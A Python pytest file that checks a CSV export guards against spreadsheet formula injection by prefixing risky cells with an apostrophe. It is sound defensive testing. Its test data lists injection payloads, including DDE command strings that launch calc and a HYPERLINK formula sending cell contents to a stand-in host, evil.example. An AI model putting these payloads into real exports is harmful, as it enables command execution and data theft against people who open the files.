"""Texts in a CSV file: no spreadsheet can run them, whatever it takes for the end of a cell."""

from __future__ import annotations

import csv
import io
import re

import pytest
from devin_usage.export import Column, Table, text
from devin_usage.export.formulas import guarded, unguarded
from hypothesis import given, settings
from hypothesis import strategies as st

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "\rreturn",
    "\0=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    '"=1+1',
    "'=1+1",
    "`=1+1",
    "\u201c=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",
    "\ufe661+1",
]
AFTER_AN_END = ["Ada;=1+1", "Ada,=1+1", "Ada\t=1+1", "Ada\n=1+1", "Ada\r\n=1+1", 'Ada";"=1+1', "Ada; =1+1", "a|@b"]
HARMLESS = ["", "Ada", "okta|Acme|x17", "a=b", "1-2", "user@acme.example", "O'Brien", "Anne-Marie", "org-1, org-2", "x"]


def cells(value: str) -> str:
    """The text of a table of one cell, after its heading."""
    return text(Table("things", (Column("name", "text", "A name."),), ((value,),)), "csv").split("\r\n", 1)[1]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_that_could_be_run_starts_with_an_apostrophe(value: str) -> None:
    """A spreadsheet then takes it for text."""
    (read,) = next(csv.reader(io.StringIO(cells(value), newline="")))
    assert read.startswith("'")
    assert unguarded(read) == value


@pytest.mark.parametrize("value", AFTER_AN_END)
def test_a_text_is_harmless_to_those_who_end_cells_elsewhere(value: str) -> None:
    """Where a spreadsheet is set to semicolons, the rest of a cell after one is a cell of its own."""
    assert not re.search(r"""[;,\t\r\n|]["\s]*[=@]""", guarded(value))
    assert unguarded(guarded(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_texts_stay_as_they_are(value: str) -> None:
    """Most names are just names."""
    assert guarded(value) == value


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.text("=+-@'\"\t\r\n ,;|\uff1d1a\u200b\ufeff\0")))
def test_an_apostrophe_can_be_taken_away_again(value: str) -> None:
    """No two texts become one, and none is left that starts like a formula."""
    made = guarded(value)
    assert unguarded(made) == value
    assert not made.lstrip('"\u200b\ufeff\0 \t\r\n').startswith(("=", "+", "-", "@", "\uff1d"))


def test_numbers_are_never_touched() -> None:
    """A negative number is a number."""
    made = Table("things", (Column("acus", "acus", "ACUs."), Column("n", "count", "N.")), ((-1.5, -2),))
    assert text(made, "csv") == "acus,n\r\n-1.5,-2\r\n"


def test_headings_are_guarded_too() -> None:
    """A product's name comes from the API."""
    assert text(Table("things", (Column("=1+1", "text", "A name."),), ()), "csv") == "'=1+1\r\n"
